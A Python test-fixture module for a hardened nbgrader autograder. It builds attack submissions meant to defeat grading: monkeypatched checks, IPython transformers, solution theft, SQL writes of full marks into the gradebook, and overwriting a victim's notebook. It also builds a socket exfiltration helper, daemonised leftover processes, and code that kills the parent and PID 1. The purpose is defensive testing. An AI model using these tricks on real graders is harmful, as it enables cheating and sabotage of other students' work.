"""Attack and misbehaving submissions of assignment 01_risk, built from its release, and the class runs that grade them.

Every attack is "the same wrong answers + a trick": parts 1 and 2 are wrong (a known
mistake each), the later parts are right, and the trick tries to earn parts 1 and 2 anyway
(or to hurt other students, or the grader). A grader holds when the trick scores no
more than :data:`BASELINE` (the wrong answers alone) and everyone else is graded as if
the attacker were not there.

Students whose id starts with ``a_`` are attackers; ``r_`` misbehave (crash, loop, print
without end); ``z_`` are honest victims graded after the attackers.
"""

from __future__ import annotations

import atexit
import csv
import json
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Callable

import nbformat

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "01_risk"
COURSE = str(Path(sys.executable).parent / "course")

from components import requires  # noqa: E402
from submissions import fill_release, solution_sources, write_submission  # noqa: E402

WRONG_PARTS = {
    "empirical_risk": "def empirical_risk(w, b, X, y):\n    return ((X @ w + b - y) ** 2).sum()\n",
    "ridge_risk": "def ridge_risk(w, b, X, y, lam):\n    return ((X @ w + b - y) ** 2).mean() + lam * w.norm()\n",
}
"""Parts 1 and 2 answered with a known mistake each (sum instead of mean; the norm instead of its square)."""

requires_bwrap = requires("bwrap")
"""For defences that the sandbox provides: without bubblewrap, student code can read and write the disk."""

SANDBOX_DEFENCES = {"a_read_solutions", "a_write_gradebook", "a_overwrite_victim"}
"""Attacks only the sandbox stops (the others the judge stops on its own)."""

from course_helpers import graded_parts  # noqa: E402

POINTS = {part.test_id: part.points for part in graded_parts(ASSIGNMENT)}
"""Points of each autograded test cell, in order: read from the source notebook, so a new part counts."""
FULL = float(sum(POINTS.values()))
BASELINE = FULL - 4
"""Autograded points of the wrong answers alone: parts 1 and 2 (2 points each) lost."""


def course_copy(dest: Path) -> Path:
    """A throw-away course with assignment 01_risk only."""
    dest.mkdir(parents=True, exist_ok=True)
    shutil.copy(ROOT / "nbgrader_config.py", dest)
    for folder in ("solutions", "exercises"):
        shutil.copytree(ROOT / folder / ASSIGNMENT, dest / folder / ASSIGNMENT)
    return dest


def release_notebook(root: Path) -> Path:
    return root / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"


def answers(root: Path) -> dict[str, str]:
    """The model solutions, by grade_id."""
    return solution_sources(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")


def wrong_answers(root: Path, trick: str = "") -> dict[str, str]:
    """Parts 1 and 2 wrong, the rest right; ``trick`` runs at the end of part 1's answer cell."""
    out = {**answers(root), **WRONG_PARTS}
    out["empirical_risk"] = WRONG_PARTS["empirical_risk"] + ("\n" + trick if trick else "")
    return out


def submit(root: Path, student: str, cells: dict[str, str], edit: Callable[[nbformat.NotebookNode], None] | None = None) -> Path:
    nb = fill_release(release_notebook(root), cells)
    if edit is not None:
        edit(nb)
    return write_submission(root, student, ASSIGNMENT, ASSIGNMENT, nb)


# ---- the tricks -------------------------------------------------------------------------------
# Each runs in the student's kernel before the tests of parts 1 and 2.

UP_THE_TREE = """
import pathlib
def _up(name):
    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        if (folder / name).exists():
            return folder / name
"""

TRICKS: dict[str, str] = {
    # rebinding the name the test cells call
    "a_rebind_check": "check = lambda *args, **kwargs: None",
    # monkeypatching the grading helper the check uses
    "a_patch_grading": "import course_lib.grading.student as _s\n_s.evaluate = lambda *args, **kwargs: None",
    # monkeypatching torch: every comparison agrees
    "a_patch_allclose": "import torch as _t\n_t.allclose = lambda *args, **kwargs: True",
    # patching the reference solutions in the student's copy of course_lib
    "a_patch_reference": (
        "import course_lib.risk as _risk\n"
        "from course_lib.grading import get_check as _get\n"
        "_risk.empirical_risk = lambda model, X, y: ((model(X) - y) ** 2).sum()\n"
        "object.__setattr__(_get('risk.ridge_risk'), 'reference',\n"
        "                   lambda w, b, X, y, lam: ((X @ w + b - y) ** 2).mean() + lam * w.norm())"
    ),
    # sys.modules: a fake checks module whose checks have no cases
    "a_sys_modules": (
        "import sys, types\nimport course_lib.grading as _g, course_lib.grading.registry as _r\n"
        "_r._REGISTRY.clear()\n"
        "sys.modules['course_lib.grading.checks.risk'] = types.ModuleType('course_lib.grading.checks.risk')\n"
        "for _name in ['empirical_risk', 'ridge_risk', 'ridge_gradient', 'standardize', 'gradient_descent']:\n"
        "    _g.register(_g.Check('risk.' + _name, reference=lambda **kw: None, cases=lambda hidden: []))"
    ),
    # an exception handler that swallows every failure
    "a_custom_exc": "get_ipython().set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)",
    # the display machinery: no traceback, no stderr, nothing displayed, so a failing test looks clean
    "a_display": (
        "import sys, io\n_ip = get_ipython()\n"
        "_ip.showtraceback = lambda *args, **kwargs: None\n"
        "_ip.display_pub.publish = lambda *args, **kwargs: None\n"
        "sys.stderr = io.StringIO()"
    ),
    # an input transformer that deletes the tests before they run
    "a_input_transformer": (
        "get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if 'check(' not in l])"
    ),
    # an AST transformer that turns every check(...) into None
    "a_ast_transformer": (
        "import ast as _ast\n"
        "class _NoCheck(_ast.NodeTransformer):\n"
        "    def visit_Call(self, node):\n"
        "        if getattr(node.func, 'id', '') == 'check':\n"
        "            return _ast.copy_location(_ast.Constant(None), node)\n"
        "        return self.generic_visit(node)\n"
        "get_ipython().ast_transformers.append(_NoCheck())"
    ),
    # reading the reference solutions from the course folder
    "a_read_solutions": UP_THE_TREE + (
        "_src = _up('solutions')\n"
        "if _src is not None:\n"
        "    import json as _json\n"
        "    for _cell in _json.loads((_src / '01_risk' / '01_risk.ipynb').read_text())['cells']:\n"
        "        if _cell['metadata'].get('nbgrader', {}).get('solution') and _cell['cell_type'] == 'code':\n"
        "            exec(''.join(_cell['source']))"
    ),
    # writing full marks into the gradebook
    "a_write_gradebook": UP_THE_TREE + (
        "_db = _up('gradebook.db')\n"
        "if _db is not None:\n"
        "    import sqlite3\n"
        "    _con = sqlite3.connect(str(_db))\n"
        "    _con.execute(\"UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) \"\n"
        "                 \"WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment \"\n"
        "                 \"ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = 'a_write_gradebook')\")\n"
        "    _con.commit()"
    ),
    # sabotage: overwrite another student's submission with a blank notebook
    "a_overwrite_victim": UP_THE_TREE + (
        "_sub = _up('submitted')\n"
        "if _sub is not None:\n"
        "    _victim = _sub / 'z_victim' / '01_risk' / '01_risk.ipynb'\n"
        "    _blank = _sub.parent / 'exercises' / '01_risk' / '01_risk.ipynb'\n"
        "    _victim.write_bytes(_blank.read_bytes())"
    ),
    # rewriting the answers of earlier tests after they ran (see a_forge_later's cell below)
    "a_forge_later": "",
}
"""Tricks placed at the end of part 1's answer cell, by student id."""

FORGE_LATER = (
    "import course_lib.grading as _g, course_lib.grading.student as _s\n"
    "assert _s._reporter is not None, 'the attack expects to run inside the autograder'\n"
    "for _name in ('risk.empirical_risk', 'risk.ridge_risk'):\n"
    "    _c = _g.get_check(_name)\n"
    "    for _hidden in (False, True):\n"
    "        _s._reporter(_name, _hidden, [_c.run(_c.reference, _case) for _case in _c.cases(_hidden)])\n"
)
"""Sends the reference's answers for parts 1 and 2 from part 5's answer cell, long after their tests ran."""


def probe(root: Path) -> str:
    """Code that prints, as one JSON line after ``PROBE``, what a submission can see and do."""
    return f"""
import json as _json, os as _os, socket as _socket
def _try(f):
    try:
        return f()
    except Exception as err:
        return type(err).__name__
print("PROBE", _json.dumps({{
    "uid": _os.getuid(),
    "solutions": _os.path.exists({str(root / "solutions")!r}),
    "gradebook": _os.path.exists({str(root / "gradebook.db")!r}),
    "submitted": _os.path.exists({str(root / "submitted")!r}),
    "home": _try(lambda: sorted(_os.listdir(_os.path.expanduser("~")))),
    "interfaces": _try(lambda: sorted(name for _, name in _socket.if_nameindex())),
    "write_outside_tmp": _try(lambda: open("/probe-was-here", "w").close() or True),
    "ppid": _os.getppid(),
}}))
"""


def probe_result(root: Path, student: str = "a_probe") -> dict:
    """What :func:`probe` printed in ``student``'s autograded notebook."""
    nb = nbformat.read(root / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            for line in output.get("text", "").splitlines():
                if line.startswith("PROBE "):
                    return json.loads(line[len("PROBE "):])
    raise AssertionError(f"{student}'s probe printed nothing")


def _tamper_tests(nb: nbformat.NotebookNode) -> None:
    """Edit part 1's test to do nothing and claim 100 points; delete part 2's test; re-point part 3's."""
    kept = []
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        gid = meta.get("grade_id")
        if gid == "test_empirical_risk":
            cell.source = "pass"
            meta["points"] = 100
        elif gid == "test_ridge_risk":
            continue
        elif gid == "test_ridge_gradient":
            cell.source = "check('risk.ridge_gradient', __import__('course_lib').risk.ridge_gradient)"
            del cell.metadata["nbgrader"]
        kept.append(cell)
    nb.cells = kept


EXTRA_CELL_HELPER = "def _squared_errors(w, b, X, y):\n    return (X @ w + b - y) ** 2\n"


def build_equivalence_class(root: Path) -> None:
    """Honest, blank, wrong and crashing students: scored the same by stock nbgrader and by ours."""
    from submissions import mistake_source

    model = answers(root)
    submit(root, "e_blank", {})
    submit(root, "e_mistake", {**model, "ridge_gradient": mistake_source("risk.ridge_gradient", "sign", "ridge_gradient")})
    partly = {**model,
              "standardize": mistake_source("risk.standardize", "unbiased_std", "standardize"),
              "gradient_descent": mistake_source("risk.gradient_descent", "losses_after_step", "gradient_descent")}
    submit(root, "e_partly", partly)
    submit(root, "e_crash", {**model, "ridge_risk": "raise RuntimeError('my code crashed')\n" + model["ridge_risk"]})

    def add_helper_cell(nb: nbformat.NotebookNode) -> None:
        # a student's own cells: a helper before part 1's answer, and a note after it
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "empirical_risk")
        nb.cells.insert(at, nbformat.v4.new_code_cell(EXTRA_CELL_HELPER))
        nb.cells.insert(at + 2, nbformat.v4.new_markdown_cell("My notes: the helper is above."))

    helper_answer = "def empirical_risk(w, b, X, y):\n    return _squared_errors(w, b, X, y).mean()\n"
    submit(root, "e_own_cells", {**model, "empirical_risk": helper_answer}, add_helper_cell)


EQUIVALENCE = ["e_blank", "e_mistake", "e_partly", "e_crash", "e_own_cells", "a_baseline_wrong"]
"""Students whose scores stock nbgrader and ours must agree on (no tricks)."""


def build_attack_class(root: Path) -> list[str]:
    """Write the wrong-answers baseline, every attack and the honest victim; returns the attackers' ids."""
    submit(root, "a_baseline_wrong", wrong_answers(root))
    for student, trick in TRICKS.items():
        cells = wrong_answers(root, trick)
        if student == "a_forge_later":
            cells["gradient_descent"] = cells["gradient_descent"] + "\n" + FORGE_LATER
        submit(root, student, cells)
    submit(root, "a_tamper_tests", {**wrong_answers(root), "ridge_gradient": answers(root)["ridge_gradient"]}, _tamper_tests)
    submit(root, "a_probe", wrong_answers(root, probe(root)))
    submit(root, "z_victim", answers(root))
    return ["a_baseline_wrong", *TRICKS, "a_tamper_tests", "a_probe"]


# ---- misbehaving submissions ----------------------------------------------------------------------

LEFTOVER_MARK = "course-autograde-leftover-7c1f"
"""Appears in the command line of processes a submission leaves running; none may survive grading."""

LEFTOVERS = f"""
import os, signal, subprocess, sys
# a child that ignores SIGTERM and SIGHUP, and a grandchild in its own session (a daemon)
subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
                  "signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(600)", "{LEFTOVER_MARK}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{LEFTOVER_MARK}"])
    os._exit(0)
"""

MISBEHAVING: dict[str, tuple[str, str, str]] = {
    # the kernel dies in part 3's answer: parts 1-2 count, 3-5 score 0
    "r_exit": ("ridge_gradient", "replace", "import os\nos._exit(3)"),
    # a segmentation fault in part 3's answer
    "r_segfault": ("ridge_gradient", "replace", "import ctypes\nctypes.string_at(0)"),
    # an endless loop at the top of part 2's answer: interrupted, the rest is graded
    "r_loop": ("ridge_risk", "replace", "while True:\n    pass"),
    # an endless loop that ignores the interrupt: killed, parts 2-5 score 0
    "r_loop_no_interrupt": ("ridge_risk", "replace", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    # 50 MB of output after a right part 4
    "r_huge_output": ("standardize", "append", "for _ in range(50_000):\n    print('x' * 1000)"),
    # asks for 100 GB
    "r_memory": ("standardize", "append", "_hog = bytearray(100 * 2**30)"),
    # fills the disk
    "r_disk": ("standardize", "append", "with open('big.bin', 'wb') as fh:\n    for _ in range(4096):\n        fh.write(b'0' * 2**20)"),
    # leaves processes behind
    "r_leftovers": ("standardize", "append", LEFTOVERS),
    # kills its parent and everything it can
    "r_kill_parent": ("standardize", "append", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)"),
    # too slow overall: every answer sleeps 2.9 s, under the cell limit (3 s), over the notebook's (13 s)
    "r_slow": ("*", "prepend", "import time\ntime.sleep(2.9)"),
}
"""By student id: the answer cell, whether the code replaces the model solution or follows it, the code."""


def build_robustness_class(root: Path) -> None:
    """Misbehaving submissions, unreadable ones, and an honest student graded after them."""
    model = answers(root)
    for student, (cell, how, code) in MISBEHAVING.items():
        if how == "prepend":
            submit(root, student, {k: v if k == "l2_feature_scales" else code + "\n" + v for k, v in model.items()})
        else:
            submit(root, student, {**model, cell: code if how == "replace" else model[cell] + "\n" + code})
    write_submission(root, "r_not_json", ASSIGNMENT, ASSIGNMENT, "this is { not a notebook")
    write_submission(root, "r_bad_notebook", ASSIGNMENT, ASSIGNMENT, json.dumps({"cells": "nope", "nbformat": 4}))
    folder = root / "submitted" / "r_png" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.ipynb").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    wrong_name = root / "submitted" / "r_missing" / ASSIGNMENT
    wrong_name.mkdir(parents=True)
    shutil.copy(release_notebook(root), wrong_name / "my_homework.ipynb")
    submit(root, "z_honest", model)


# ---- running a class ------------------------------------------------------------------------------


@dataclass
class Graded:
    """A graded class: its folder(s), the gradebook's rows and scores by student, what `course autograde` printed."""

    roots: list[Path]
    rows: dict[str, dict[str, str]]
    stdout: str
    stderr: str
    seconds: float
    connections: int = 0
    """Connections the a_network attacker made to a server on the grading machine."""

    @property
    def root(self) -> Path:
        return self.roots[0]

    @property
    def scores(self) -> dict[str, float]:
        return {student: float(row["score"]) for student, row in self.rows.items()}


def course(*args: str, root: Path, timeout: float = 900, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run([COURSE, "--root", str(root), *args], capture_output=True, text=True, timeout=timeout)
    if check:
        assert result.returncode == 0, f"course {' '.join(args)} failed:\n{result.stdout}\n{result.stderr}"
    return result


def rows(root: Path) -> dict[str, dict[str, str]]:
    """``course grades --csv`` of assignment 01_risk, by student."""
    csv_path = root / "grades.csv"
    course("grades", "--csv", str(csv_path), root=root)
    with open(csv_path) as fh:
        return {row["student_id"]: row for row in csv.DictReader(fh) if row["assignment"] == ASSIGNMENT}


def judge_reason(root: Path, student: str, assignment: str, grade_id: str) -> str:
    """What the judge wrote under one test cell of a graded notebook (its reason), one output a line."""
    path = next((root / "autograded" / student / assignment).glob("*.ipynb"))
    cell = next(c for c in nbformat.read(path, as_version=4).cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    return "\n".join(o.get("evalue", "") + o.get("text", "") for o in cell.outputs)


def scores(root: Path) -> dict[str, float]:
    return {student: float(row["score"]) for student, row in rows(root).items()}


def grade(*roots: Path, args: tuple[str, ...] = ()) -> Graded:
    """Run ``course autograde`` in every folder at once (stock nbgrader uses one core each)."""
    import time
    from concurrent.futures import ThreadPoolExecutor

    started = time.monotonic()
    with ThreadPoolExecutor(len(roots)) as pool:
        results = list(pool.map(lambda root: course("autograde", ASSIGNMENT, "--quiet", *args, root=root), roots))
    merged: dict[str, dict[str, str]] = {}
    for root in roots:
        merged.update(rows(root))
    return Graded(list(roots), merged, "".join(r.stdout for r in results), "".join(r.stderr for r in results),
                  time.monotonic() - started)


_TEMPS: list[str] = []


def _temp(prefix: str) -> Path:
    folder = tempfile.mkdtemp(prefix=prefix)
    _TEMPS.append(folder)
    return Path(folder)


@atexit.register
def _cleanup() -> None:
    for folder in _TEMPS:
        shutil.rmtree(folder, ignore_errors=True)


def exfiltrate(port: int) -> str:
    """Code that sends the notebook to a server on the grading machine."""
    return (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(open('01_risk.ipynb', 'rb').read())\n"
        "except OSError as err:\n"
        "    print('BLOCKED', err)\n"
    )


class _Listener:
    """A TCP server on the loopback interface that counts the connections it gets."""

    def __enter__(self) -> "_Listener":
        import socket
        import threading

        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()
        return self

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()


STOCK_FALLS_FOR = {
    "a_rebind_check", "a_patch_grading", "a_patch_allclose", "a_patch_reference", "a_sys_modules",
    "a_input_transformer", "a_ast_transformer", "a_read_solutions", "a_write_gradebook",
}
"""Attacks that earn points under stock nbgrader (measured: see the test and the report's table)."""

STOCK_CLASS = {*EQUIVALENCE, *STOCK_FALLS_FOR, "a_overwrite_victim", "z_victim", "a_probe"}
"""Who stock nbgrader grades in the tests (it is slow: only those a test asserts something about)."""


@lru_cache(maxsize=None)
def shared_class(grader: str) -> Graded:
    """The equivalence and attack classes, graded once per test session by ``"ours"`` or ``"stock"`` nbgrader."""
    root = course_copy(_temp(f"class-{grader}-") / "course")
    build_equivalence_class(root)
    build_attack_class(root)
    if grader == "ours":
        with _Listener() as server:
            submit(root, "a_network", wrong_answers(root, exfiltrate(server.port)))
            graded = grade(root, args=("--jobs", "2"))
        graded.connections = server.connections
        return graded
    # Stock nbgrader grades one submission at a time: two halves of the class, in two course
    # folders, graded side by side (the saboteur and its victim stay together).
    other = course_copy(root.parent / "second-half")
    (other / "submitted").mkdir()
    for i, folder in enumerate(sorted((root / "submitted").iterdir())):
        if folder.name not in STOCK_CLASS:
            shutil.rmtree(folder)
        elif i % 2 and folder.name not in ("a_overwrite_victim", "z_victim", "a_probe"):
            shutil.move(str(folder), other / "submitted" / folder.name)
    return grade(root, other, args=("--stock",))


@lru_cache(maxsize=None)
def robustness_class() -> Graded:
    """The misbehaving class, graded once per test session by ours, with short time limits."""
    root = course_copy(_temp("robustness-") / "course")
    build_robustness_class(root)
    return grade(root, args=("--jobs", "2", "--cell-timeout", "3", "--notebook-timeout", "13"))
